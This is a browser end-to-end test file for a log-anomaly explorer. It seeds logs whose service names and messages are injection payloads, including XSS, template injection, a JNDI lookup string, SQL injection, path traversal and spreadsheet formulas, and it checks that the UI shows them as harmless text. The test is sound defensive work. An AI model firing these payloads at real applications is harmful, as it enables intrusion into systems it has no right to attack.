import type { Browser, Page } from 'playwright-core';
import { changedQuery } from '../../public/pages/anomalies/explorer_query';
import { LONGEST_ENTITY } from '../../common/detector/entity_fields';
import { makeDetector, onPage, startBrowserWorld, type BrowserWorld } from './browser_world';
import { hideResult, openBrowser, openExplorer, shownAnomalies, testSubject } from './steps';

jest.setTimeout(180_000);

const DAY_MILLISECONDS = 86_400_000;
const LOGS_OF_EACH = 60;
const OWNED = "document.title='owned'";

/** Names of services that somebody chose who wishes us no good, or did not think of us. */
const ENTITIES = [
  `<img src=x onerror="${OWNED}">`,
  `"><svg/onload=${OWNED}>`,
  `{{constructor.constructor('${OWNED}')()}}`,
  `\${jndi:ldap://example.org/a}`,
  'service:* OR *?',
  "' OR 1=1 -- \\",
  '%2e%2e%2f?a=1&b#c+d',
  '__proto__',
  'constructor',
  'two\nlines',
  'exe\u202Egnp.txt\u0000\u200B',
  'é🧑‍💻 日本語',
  '=HYPERLINK("x")',
  'w'.repeat(3_000),
];
const MESSAGES = [
  `<script>${OWNED}</script><iframe src="javascript:${OWNED}">`,
  `[click](javascript:${OWNED}) \u001b[31mred\u001b[0m ${'longword'.repeat(4_000)}`,
  `\u0000\ud83d broken surrogate, ${'{"a":'.repeat(2_000)}`,
];

let world: BrowserWorld;
let browser: Browser;
let id: string;
let index: string;

beforeAll(async () => {
  [world, browser] = await Promise.all([startBrowserWorld(), openBrowser()]);
  index = `${world.space}-hostile`;
  await writeHostileLogs();
  id = await makeDetector(world, {
    name: `<b>${OWNED}</b>`,
    source: { index },
    threshold: { method: 'contamination', contamination: 0.08 },
    features: [
      { type: 'number', field: 'response_time' },
      { type: 'text', field: 'message' },
      { type: 'category', field: 'service.name', encoding: 'rarity' },
      { type: 'template', field: 'message' },
    ],
  });
});

afterAll(async () => {
  await browser?.close();
  await world?.elasticsearch.indices.delete({ index, ignore_unavailable: true });
  await world?.close();
});

async function writeHostileLogs(): Promise<void> {
  const { elasticsearch } = world;
  await elasticsearch.indices.create({
    index,
    settings: { number_of_shards: 1, number_of_replicas: 0 },
    mappings: {
      properties: {
        '@timestamp': { type: 'date' },
        message: { type: 'text' },
        service: { properties: { name: { type: 'keyword' } } },
        response_time: { type: 'double', ignore_malformed: true },
      },
    },
  });
  const from = Date.now() - 2 * DAY_MILLISECONDS;
  const operations = ENTITIES.flatMap((name, place) =>
    Array.from({ length: LOGS_OF_EACH }, (_, number) => {
      const isOdd = number % 20 === 7;
      return [
        { index: {} },
        {
          '@timestamp': new Date(
            from +
              ((number * ENTITIES.length + place) / (LOGS_OF_EACH * ENTITIES.length)) *
                1.9 *
                DAY_MILLISECONDS,
          ).toISOString(),
          service: { name },
          message: isOdd
            ? MESSAGES[(place + number) % MESSAGES.length]
            : `GET /products/${number % 9} done in ${number} ms`,
          response_time: isOdd ? (number % 3 === 0 ? 'NaN, or so' : 90_000) : 20 + (number % 13),
        },
      ];
    }).flat(),
  );
  const { items, errors } = await elasticsearch.bulk({ index, operations, refresh: true });
  if (errors) throw new Error(JSON.stringify(items.find((item) => item.index?.error)));
}

/** Nothing of the logs may run, nor push the page wider than the window or a row higher than a fifth of it. */
async function expectHarmless(page: Page): Promise<void> {
  const [title, tooWide, highestRow] = await page.evaluate(() => [
    document.title,
    document.documentElement.scrollWidth - document.documentElement.clientWidth,
    // Not those that only screen readers see.
    Math.max(
      ...[...document.querySelectorAll('tbody tr')]
        .filter(({ clientWidth }) => clientWidth > 100)
        .map(({ clientHeight }) => clientHeight),
    ),
  ]);
  expect(title).not.toContain('owned');
  expect(tooWide).toBeLessThanOrEqual(0);
  expect(highestRow).toBeLessThanOrEqual(200);
}

it('shows entities and messages of any kind as text, and narrows to each of them', () =>
  onPage(browser, world, async (page) => {
    const pages = { page, url: world.host.url };
    await openExplorer(pages, id, 'now-3d');
    await expectHarmless(page);
    for (const entity of ENTITIES) {
      const { entity: chosen = '' } = changedQuery({ entities: [entity.slice(0, LONGEST_ENTITY)] });
      const query = new URLSearchParams({
        from: 'now-3d',
        to: 'now',
        sort: 'score',
        view: 'anomalies',
        entity: chosen,
      });
      await page.goto(`${pages.url}/app/logAnomalies/detectors/${id}/anomalies?${query}`);
      await page.waitForSelector(`${testSubject('logAnomaliesResults')} tbody tr`);
      // Each has three odd logs.
      if ((await shownAnomalies(page)) < 3) throw new Error(`${await shownAnomalies(page)} of ${entity}`);
      await expectHarmless(page);
      await page.locator(testSubject('logAnomaliesOpenResult')).first().click();
      await page.waitForSelector(
        `${testSubject('logAnomaliesEvidence')} ${testSubject('logAnomaliesPattern')}`,
      );
      expect(
        (await page.locator(testSubject('logAnomaliesResultDetails')).boundingBox())?.height,
      ).toBeLessThan(1_500);
    }
  }));

it('hides one of them and no other, and shows them on a dashboard', () =>
  onPage(browser, world, async (page) => {
    const pages = { page, url: world.host.url };
    const { entity = '' } = changedQuery({ entities: ['service:* OR *?'] });
    await openExplorer(pages, id, 'now-3d');
    const before = await shownAnomalies(page);
    const query = new URLSearchParams({
      from: 'now-3d',
      to: 'now',
      sort: 'score',
      view: 'anomalies',
      entity,
    });
    await page.goto(`${pages.url}/app/logAnomalies/detectors/${id}/anomalies?${query}`);
    await page.waitForSelector(`${testSubject('logAnomaliesResults')} tbody tr`);
    const ofEntity = await shownAnomalies(page);
    await hideResult(pages, 'entity');
    await openExplorer(pages, id, 'now-3d');
    expect(await shownAnomalies(page)).toBe(before - ofEntity);
    await expectHarmless(page);
    const panels = ['swim_lane', 'timeline', 'patterns', 'table'].map((kind) => `panel=${kind}`).join('&');
    await page.goto(`${pages.url}/app/dashboard?${panels}&from=now-3d`);
    await page.waitForSelector(`${testSubject('logAnomaliesPanel')} tbody tr`);
    await expectHarmless(page);
  }));
